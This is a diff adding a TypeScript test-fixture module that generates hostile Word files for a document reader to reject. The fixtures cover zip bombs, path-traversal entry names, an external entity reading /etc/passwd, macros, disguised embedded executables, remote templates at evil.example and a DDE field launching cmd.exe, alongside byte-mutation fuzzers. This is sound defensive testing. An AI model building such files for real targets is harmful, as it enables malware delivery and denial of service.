@@ -1,0 +1,249 @@
+import { deflateRawSync } from 'node:zlib'
+import type { Verdict } from '../../model/verdict.ts'
+import { contentTypes, documentRelationships } from './generate/parts.ts'
+import { p, r } from './generate/word-parts.ts'
+import { type ZipFile, zipFiles } from './generate/zip-files.ts'
+import { generateDocx, generateFiles } from './generate.ts'
+
+/** A file made to do harm, and the verdicts that may answer it; none means that it has to be translated all the same. */
+export type HostileFile = { name: string; verdicts: readonly Verdict[]; make(): Uint8Array }
+
+/** Every kind of attack that the reader promises to answer. Small to make, so that a test can hold them all. */
+export const hostileFiles: readonly HostileFile[] = [
+  bomb('one entry of zeros', ['bomb'], () => ({ data: Buffer.alloc(16 * mib) })),
+  bomb('a flat bomb of many entries', ['bomb'], () => {
+    const packed = deflateRawSync(Buffer.alloc(mib))
+    return Array.from({ length: 200 }, (_, i) => ({ name: `word/media/z${i}.png`, statedSize: mib, packed }))
+  }),
+  bomb('an entry larger than it says', ['corrupt'], () => ({ data: Buffer.alloc(8 * mib), statedSize: 1000 })),
+  bomb('an entry smaller than it says', ['corrupt'], () => ({ data: 'short', statedSize: 5000 })),
+  bomb('a wrong checksum', ['corrupt'], () => ({ data: 'text', statedCrc: 1 })),
+  bomb('too many entries', ['too-complex'], () =>
+    Array.from({ length: 2500 }, (_, i) => ({ name: `word/media/i${i}.png`, data: '' })),
+  ),
+  bomb('a name with two dots', ['unsafe-name'], () => ({ name: 'word/../../evil.xml', data: '' })),
+  bomb('a name with backslashes and dots', ['unsafe-name'], () => ({ name: 'word\\..\\..\\evil.xml', data: '' })),
+  bomb('an absolute name', ['unsafe-name'], () => ({ name: '/etc/passwd', data: '' })),
+  bomb('a drive letter', ['unsafe-name'], () => ({ name: 'C:\\evil.dll', data: '' })),
+  bomb('a name with NUL', ['unsafe-name'], () => ({ name: 'word/a\0.xml', data: '' })),
+  bomb('a name that reads backwards', ['unsafe-name'], () => ({ name: 'word/\u202egpj.exe', data: '' })),
+  bomb('two names in one entry', ['corrupt'], () => ({ name: 'word/a.xml', localName: 'word/b.xml', data: '' })),
+  bomb('one name twice', ['corrupt'], () => ({ name: 'word/DOCUMENT.xml', data: '<w/>' })),
+  bomb('a locked entry', ['encrypted'], () => ({ name: 'word/x.bin', data: 'x', flags: 1 })),
+  bomb('an unknown compression', ['corrupt'], () => ({ name: 'word/x.bin', data: 'x', method: 99 })),
+  bomb('a program', ['embedded-object'], () => ({ name: 'word/media/image1.png', data: `MZ${'\0'.repeat(200)}` })),
+  bomb('a script', ['embedded-object'], () => ({ name: 'word/run.vbs', data: 'MsgBox 1' })),
+  bomb('macros', ['macros'], () => ({ name: 'word/vbaProject.bin', data: 'macro' })),
+  bomb('macros in an embedded workbook', ['macros'], () => ({
+    name: 'word/embeddings/sheet.xlsx',
+    stored: true,
+    data: zipFiles([{ name: 'xl/vbaProject.bin', data: 'x' }]),
+  })),
+  bomb('a wrapped program', ['embedded-object'], () => ({
+    name: 'word/embeddings/oleObject1.bin',
+    data: Buffer.concat([ole, Buffer.from('\u0001Ole10Native', 'utf16le'), Buffer.from('\0evil.exe\0')]),
+  })),
+  bomb('a wrapped program among ordinary names', ['embedded-object'], () => ({
+    name: 'word/embeddings/oleObject1.bin',
+    data: wrapped('invoice.exe', 'MZ'),
+  })),
+  bomb('a program wrapped under another name', ['embedded-object'], () => ({
+    name: 'word/embeddings/oleObject1.bin',
+    data: wrapped('invoice.txt', 'MZ'),
+  })),
+  bomb('a control of an unknown class', ['embedded-object'], () => ({
+    name: 'word/activeX/activeX1.xml',
+    data: '<ax:ocx xmlns:ax="urn:x" ax:classid="{F20DA720-C02F-11CE-927B-0800095AE340}"/>',
+  })),
+  replaced('elements nested too deep', ['too-complex'], 'word/document.xml', () =>
+    document('<w:sdt>'.repeat(5000) + '</w:sdt>'.repeat(5000)),
+  ),
+  replaced('too many elements', ['too-complex'], 'word/document.xml', () =>
+    document(noise('<w:bookmarkEnd/>', 2_100_000)),
+  ),
+  replaced('a look for every word', ['too-complex'], 'word/document.xml', () =>
+    document(p(Array.from({ length: 122_000 }, (_, i) => r(`${i * i}a`, i % 2 ? '<w:b/>' : '<w:i/>')).join(''))),
+  ),
+  replaced(
+    'an entity bomb',
+    ['dtd'],
+    'word/document.xml',
+    () => `<!DOCTYPE w [<!ENTITY a "aaaa">]>${document(p('&a;'))}`,
+  ),
+  replaced(
+    'an outside entity',
+    ['dtd'],
+    'word/styles.xml',
+    () => '<?xml version="1.0"?><!DOCTYPE s SYSTEM "file:///etc/passwd"><s/>',
+  ),
+  bomb('an entity bomb in a part that is only copied', ['dtd'], () => ({
+    name: 'customXml/item7.xml',
+    data: '\ufeff<?xml version="1.0"?><!-- x --> <!DOCTYPE r [<!ENTITY a "aaaa">]><r>&a;</r>',
+  })),
+  replaced('XML that ends early', ['corrupt'], 'word/document.xml', () => document(p('text')).slice(0, -20)),
+  replaced('tags that cross', ['corrupt'], 'word/document.xml', () => document('<w:p><w:r></w:p></w:r>')),
+  replaced('an attribute without quotes', ['corrupt'], 'word/document.xml', () => document('<w:p a=b/>')),
+  replaced('bytes that are no UTF-8', ['corrupt'], 'word/document.xml', () =>
+    Buffer.from(document(p('na\u00efve')), 'latin1'),
+  ),
+  replaced('a prefix from nowhere', ['corrupt'], 'word/document.xml', () => document('<evil:p/>')),
+  replaced('a macro-enabled main part', ['macros'], '[Content_Types].xml', () =>
+    contentTypes.replace(
+      'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
+      'application/vnd.ms-word.document.macroEnabled.main+xml',
+    ),
+  ),
+  replaced('a spreadsheet by content', ['type-mismatch'], '[Content_Types].xml', () =>
+    contentTypes.replace('wordprocessingml.document.main+xml', 'spreadsheetml.sheet.main+xml'),
+  ),
+  replaced('a template from the web', ['external-content'], 'word/_rels/document.xml.rels', () =>
+    relation('attachedTemplate', 'https://evil.example/t.dotm'),
+  ),
+  replaced('an object from the web', ['external-content'], 'word/_rels/document.xml.rels', () =>
+    relation('oleObject', 'mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html'),
+  ),
+  replaced('a frame from the web', ['external-content'], 'word/_rels/document.xml.rels', () =>
+    relation('frame', 'http://evil.example/'),
+  ),
+  replaced('a command in a field', ['external-content'], 'word/document.xml', () =>
+    document(
+      p(
+        r('<w:fldChar w:fldCharType="begin"/>') +
+          r('<w:instrText>DDE</w:instrText>') +
+          r('<w:instrText>AUTO c:\\\\cmd.exe "/k calc"</w:instrText>') +
+          r('<w:fldChar w:fldCharType="end"/>'),
+      ),
+    ),
+  ),
+  {
+    name: 'a locked document',
+    verdicts: ['encrypted'],
+    make: () => Buffer.concat([ole, Buffer.alloc(600), Buffer.from('EncryptedPackage', 'utf16le')]),
+  },
+  {
+    name: 'an old binary document',
+    verdicts: ['type-mismatch'],
+    make: () => Buffer.concat([ole, Buffer.alloc(600), Buffer.from('WordDocument', 'utf16le')]),
+  },
+  {
+    name: 'a picture under a false name',
+    verdicts: ['type-mismatch'],
+    make: () => Buffer.from('\u0089PNG\r\n\u001a\n0000000000000000000', 'latin1'),
+  },
+  { name: 'an empty file', verdicts: ['empty'], make: () => new Uint8Array() },
+  {
+    name: 'a ZIP of something else',
+    verdicts: ['type-mismatch'],
+    make: () => zipFiles([{ name: 'hello.txt', data: 'hello' }]),
+  },
+  { name: 'half a file', verdicts: ['corrupt'], make: () => generateDocx({ pages: 3 }).subarray(0, 6000) },
+  { name: 'entries that share their bytes', verdicts: ['bomb'], make: overlapping },
+  {
+    name: 'a tail after the end',
+    verdicts: ['corrupt'],
+    make: () => Buffer.concat([generateDocx({ pages: 1 }), Buffer.from('<script>alert(1)</script>')]),
+  },
+]
+
+/** Damaged copies of a good file, the same ones for the same seed: bytes turned, cut out, doubled and moved. */
+export function mutants(source: Uint8Array, count: number, seed: number): Uint8Array[] {
+  let state = seed >>> 0
+  const next = (below: number) => {
+    state = (Math.imul(state, 1664525) + 1013904223) >>> 0
+    return Math.floor((state / 2 ** 32) * below)
+  }
+  return Array.from({ length: count }, () => {
+    let bytes = Buffer.from(source)
+    for (let times = 1 + next(6); times > 0; times--) {
+      const at = next(bytes.length)
+      const length = 1 + next(40)
+      const kind = next(4)
+      if (kind === 0) bytes[at] = next(256)
+      else if (kind === 1) bytes = Buffer.concat([bytes.subarray(0, at), bytes.subarray(at + length)])
+      else if (kind === 2)
+        bytes = Buffer.concat([bytes.subarray(0, at), bytes.subarray(at, at + length), bytes.subarray(at)])
+      else bytes.fill(next(256), at, at + length)
+    }
+    return bytes
+  })
+}
+
+/** The same, but inside the XML of the main part, so that the damage gets past the archive and to the reader of text. */
+export function xmlMutants(count: number, seed: number): Uint8Array[] {
+  const files = generateFiles({ pages: 3 })
+  const main = files.find((file) => file.name === 'word/document.xml') as ZipFile
+  return mutants(Buffer.from(main.data as string), count, seed).map((data) =>
+    zipFiles(files.map((file) => (file === main ? { ...file, data } : file))),
+  )
+}
+
+const mib = 1024 * 1024
+const ole = Buffer.from('d0cf11e0a1b11ae1', 'hex')
+
+/** An OLE object as the object packager writes it around any file. */
+export function wrapped(name: string, content: string): Uint8Array {
+  const head = `\u0002\0${name}\0C:\\${name}\0\0\0\u0003\0\u0008\0\0\0C:\\Temp\\${name}\0\u0008\0\0\0`
+  return Buffer.concat([ole, Buffer.from('\u0001Ole10Native', 'utf16le'), Buffer.from(head + content, 'latin1')])
+}
+
+const document = (body: string) =>
+  `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`
+
+const relation = (kind: string, target: string) =>
+  documentRelationships.replace(
+    '</Relationships>',
+    `<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="External"/></Relationships>`,
+  )
+
+/** Many elements that do not pack a hundredfold, so that the count is what stops them. */
+function noise(element: string, count: number): string {
+  const some = element.repeat(20)
+  const parts = Array.from(
+    { length: count / 20 },
+    (_, i) => `<!--${Math.imul(i + 1, 2654435761).toString(36)}-->${some}`,
+  )
+  return parts.join('')
+}
+
+function bomb(
+  name: string,
+  verdicts: readonly Verdict[],
+  make: () => Partial<ZipFile> | Partial<ZipFile>[],
+): HostileFile {
+  return {
+    name,
+    verdicts,
+    make: () => {
+      const added = [make()].flat().map((file) => ({ name: 'word/media/image9.png', data: '', ...file }))
+      return zipFiles([...generateFiles({ pages: 1 }), ...added])
+    },
+  }
+}
+
+function replaced(
+  name: string,
+  verdicts: readonly Verdict[],
+  part: string,
+  make: () => string | Uint8Array,
+): HostileFile {
+  return {
+    name,
+    verdicts,
+    make: () =>
+      zipFiles(generateFiles({ pages: 1 }).map((file) => (file.name === part ? { ...file, data: make() } : file))),
+  }
+}
+
+/** The directory points twice at the same bytes; with more of them a few kilobytes unpack to gigabytes. */
+function overlapping(): Uint8Array {
+  const inner = zipFiles([{ name: 'word/b.bin', data: 'hidden' }])
+  const outer = [
+    ...generateFiles({ pages: 1 }),
+    { name: 'word/a.bin', data: inner, stored: true },
+    { name: 'word/b.bin', data: 'hidden' },
+  ]
+  const bytes = Buffer.from(zipFiles(outer))
+  const record = bytes.lastIndexOf(Buffer.from('word/b.bin'))
+  bytes.writeUInt32LE(bytes.indexOf(inner.subarray(0, 40)), record - 4)
+  return bytes
+}
